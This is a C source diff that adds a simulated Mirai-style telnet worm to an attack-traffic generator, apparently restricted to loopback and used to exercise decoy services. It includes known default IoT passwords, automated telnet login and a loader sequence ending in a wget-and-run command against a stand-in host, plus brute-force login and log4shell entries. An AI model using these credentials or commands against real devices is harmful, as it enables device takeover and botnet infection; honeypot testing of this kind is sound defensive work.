@@ -26,8 +26,8 @@ static const struct command_option attack_options[] = {
 	{"wait", 0, "N", "Wait up to so many seconds for the first port to open"},
 };
 
-/* What a bot says to one port, step by step; @U, @P and @N become a user, a password and a number.
- */
+/* What a bot says to one port, step by step; @U, @P and @N become a user, a password and a number,
+ * @L the length of what comes behind the head. */
 struct script {
 	const char *name;
 	uint16_t port;
@@ -57,8 +57,8 @@ static const struct script scripts[] = {
 	 false,
 	 4,
 	 {"POST /login HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Type: "
-	  "application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\n"
-	  "username=admin&password=@P000"}},
+	  "application/x-www-form-urlencoded\r\nContent-Length: @L\r\n\r\n"
+	  "username=@U&password=@P"}},
 	{"log4shell",
 	 8080,
 	 false,
@@ -105,6 +105,29 @@ static const char *const passwords[] = {"123456",    "admin",  "root",    "passw
 					"raspberry", "qwerty", "letmein", "P@ssw0rd", "changeme",
 					"toor",      "test",   "111111",  "support",  "guest"};
 
+/* A worm's password list at one telnet port, all of it at once from one source, until a pair gets
+ * in; then what loaders say first. */
+static const char *const worm_passwords[] = {
+	"xc3511",  "vizxv",   "7ujMko0admin", "Zte521",   "hi3518",  "jvbzd",  "anko", "zlxx.",
+	"xmhdipc", "klv1234", "juantech",     "dreambox", "realtek", "GM8182", "ikwb", "00000000"};
+static const char *const worm_commands[] = {
+	"enable",
+	"system",
+	"shell",
+	"sh",
+	"/bin/busybox SUNDEW",
+	"cat /proc/cpuinfo | grep -c name",
+	"uname -a",
+	"cd /tmp && wget http://198.51.100.7/bins.sh -O b && sh b"};
+
+struct worm {
+	int descriptor; /* -1: none */
+	size_t number;  /* of its password */
+	size_t said;    /* commands */
+	bool tried;     /* its password */
+	char tail[16];  /* what came last, with a NUL */
+};
+
 struct attack {
 	uint64_t draws;
 	struct endpoint target;
@@ -132,6 +155,17 @@ static void fill_in(struct attack *attack, const char *text, struct writer *out)
 	const char *password = passwords[draw_skewed(attack, ARRAY_COUNT(passwords))];
 
 	for (; *text; text++) {
+		if (text[0] == '@' && text[1] == 'L') {
+			const char *body = strstr(text, "\r\n\r\n") + 4;
+			struct writer rest = writer_growing(65536);
+
+			fill_in(attack, body, &rest);
+			writer_decimal(out, (int64_t)rest.length);
+			writer_bytes(out, slice_of(text + 2, (size_t)(body - text - 2)));
+			writer_bytes(out, writer_slice(&rest));
+			writer_free(&rest);
+			return;
+		}
 		if (text[0] != '@' || !text[1] || !strchr("UPN", text[1])) {
 			writer_u8(out, (uint8_t)*text);
 			continue;
@@ -146,8 +180,8 @@ static void fill_in(struct attack *attack, const char *text, struct writer *out)
 	}
 }
 
-/* A connected socket from one of many loopback addresses, or -1. */
-static int connect_from(struct attack *attack, const struct script *script)
+/* A connected socket from one of the loopback addresses, or -1. */
+static int connect_from(struct attack *attack, const struct script *script, size_t source)
 {
 	struct endpoint to = attack->target, from = {attack->target.address, 0};
 	struct sockaddr_storage address;
@@ -162,8 +196,7 @@ static int connect_from(struct attack *attack, const struct script *script)
 		return -1;
 	to.port = (uint16_t)(script->port + attack->offset);
 	if (to.address.family == 4) {
-		from.address = address_v4(0x7f000000u +
-					  0x10101u * (uint32_t)(1 + draw_skewed(attack, SOURCES)));
+		from.address = address_v4(0x7f000000u + 0x10101u * (uint32_t)(1 + source));
 		setsockopt(descriptor, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
 		length = endpoint_to_socket(&from, &address);
 		(void)!bind(descriptor, (struct sockaddr *)&address, length);
@@ -185,7 +218,7 @@ static int connect_from(struct attack *attack, const struct script *script)
 
 static void play(struct attack *attack, const struct script *script)
 {
-	int descriptor = connect_from(attack, script);
+	int descriptor = connect_from(attack, script, draw_skewed(attack, SOURCES));
 	uint8_t room[ANSWER_MAX];
 	bool answered = false;
 
@@ -215,6 +248,107 @@ static void play(struct attack *attack, const struct script *script)
 	close(descriptor);
 }
 
+/* --- the worm --- */
+
+static void leave(struct worm *worm)
+{
+	if (worm->descriptor >= 0)
+		close(worm->descriptor);
+	worm->descriptor = -1;
+}
+
+static void begin_worm(struct attack *attack, struct worm *worms)
+{
+	static const struct script door = {"", 23, false, 0, {NULL}};
+	size_t source = draw(attack, SOURCES);
+
+	for (size_t i = 0; i < ARRAY_COUNT(worm_passwords); i++) {
+		worms[i] = (struct worm){.number = i};
+		worms[i].descriptor = connect_from(attack, &door, source);
+		attack->sessions += worms[i].descriptor >= 0;
+		attack->refused += worms[i].descriptor < 0;
+	}
+}
+
+static bool ends_with(const struct worm *worm, const char *end)
+{
+	size_t length = strlen(worm->tail), wanted = strlen(end);
+
+	return length >= wanted && strcmp(worm->tail + length - wanted, end) == 0;
+}
+
+/* Keeps the end of what came. */
+static void hear(struct worm *worm, struct slice bytes)
+{
+	size_t room = sizeof(worm->tail) - 1, had = strlen(worm->tail);
+	size_t more = bytes.length < room ? bytes.length : room;
+	size_t keep = had < room - more ? had : room - more;
+
+	memmove(worm->tail, worm->tail + had - keep, keep);
+	memcpy(worm->tail + keep, bytes.at + bytes.length - more, more);
+	worm->tail[keep + more] = '\0';
+}
+
+static const char *answer_of(struct worm *worm)
+{
+	if (ends_with(worm, "ogin: "))
+		return worm->tried ? NULL : "root";
+	if (ends_with(worm, "assword: ")) {
+		worm->tried = true;
+		return worm_passwords[worm->number];
+	}
+	if (ends_with(worm, "# ") || ends_with(worm, "$ "))
+		return worm->said < ARRAY_COUNT(worm_commands) ? worm_commands[worm->said++]
+							       : "exit";
+	return NULL;
+}
+
+/* Every option is refused (RFC 1143), or telnetd goes on waiting for an answer. */
+static void refuse_options(const struct worm *worm, struct slice bytes)
+{
+	enum { WILL = 251, WONT, DO, DONT, IAC };
+
+	for (size_t i = 0; i + 2 < bytes.length; i++) {
+		uint8_t refusal[3] = {IAC, bytes.at[i + 1] == DO ? WONT : DONT, bytes.at[i + 2]};
+
+		if (bytes.at[i] != IAC || (bytes.at[i + 1] != DO && bytes.at[i + 1] != WILL))
+			continue;
+		(void)!send(worm->descriptor, refusal, sizeof(refusal), MSG_NOSIGNAL);
+		i += 2;
+	}
+}
+
+/* Answers the prompt that is there, without waiting for one. A refused pair is not tried again. */
+static void turn_worm(struct attack *attack, struct worm *worm)
+{
+	uint8_t room[4096];
+	const char *answer;
+	char line[128];
+	ssize_t got;
+	int length;
+
+	if (worm->descriptor < 0)
+		return;
+	got = recv(worm->descriptor, room, sizeof(room), 0);
+	if (got < 0 && (errno == EAGAIN || errno == EINTR))
+		return;
+	if (got <= 0) {
+		leave(worm);
+		return;
+	}
+	attack->answered += !worm->tail[0];
+	refuse_options(worm, slice_of(room, (size_t)got));
+	hear(worm, slice_of(room, (size_t)got));
+	answer = answer_of(worm);
+	if (!answer)
+		return;
+	worm->tail[0] = ' ';
+	worm->tail[1] = '\0';
+	length = snprintf(line, sizeof(line), "%s\r\n", answer);
+	if (send(worm->descriptor, line, (size_t)length, MSG_NOSIGNAL) != length)
+		leave(worm);
+}
+
 static const struct script *choose(struct attack *attack)
 {
 	uint64_t total = 0, at;
@@ -237,7 +371,7 @@ static bool wait_for_decoys(struct attack *attack, int64_t seconds)
 	int64_t until = clock_monotonic() + seconds * SECOND;
 
 	do {
-		int descriptor = connect_from(attack, &probe);
+		int descriptor = connect_from(attack, &probe, 0);
 
 		if (descriptor >= 0) {
 			close(descriptor);
@@ -256,6 +390,7 @@ static int run_attack(const struct invocation *invocation)
 		.offset = (uint16_t)option_number(invocation, "port-offset", 0, 0, 50000),
 	};
 	int64_t seconds = option_number(invocation, "seconds", 5, 1, 3600), until;
+	struct worm worms[ARRAY_COUNT(worm_passwords)];
 
 	if (address_parse(slice_text(target ? target : "127.0.0.1"), &attack.target.address) < 0 ||
 	    !address_is_loopback(&attack.target.address))
@@ -270,8 +405,14 @@ static int run_attack(const struct invocation *invocation)
 		return EXIT_TROUBLE;
 	}
 	until = clock_monotonic() + seconds * SECOND;
-	while (clock_monotonic() < until)
+	begin_worm(&attack, worms);
+	while (clock_monotonic() < until) {
 		play(&attack, choose(&attack));
+		for (size_t i = 0; i < ARRAY_COUNT(worms); i++)
+			turn_worm(&attack, &worms[i]);
+	}
+	for (size_t i = 0; i < ARRAY_COUNT(worms); i++)
+		leave(&worms[i]);
 	printf("%llu sessions from many loopback addresses, %llu answered, %llu ports closed\n",
 	       (unsigned long long)attack.sessions, (unsigned long long)attack.answered,
 	       (unsigned long long)attack.refused);
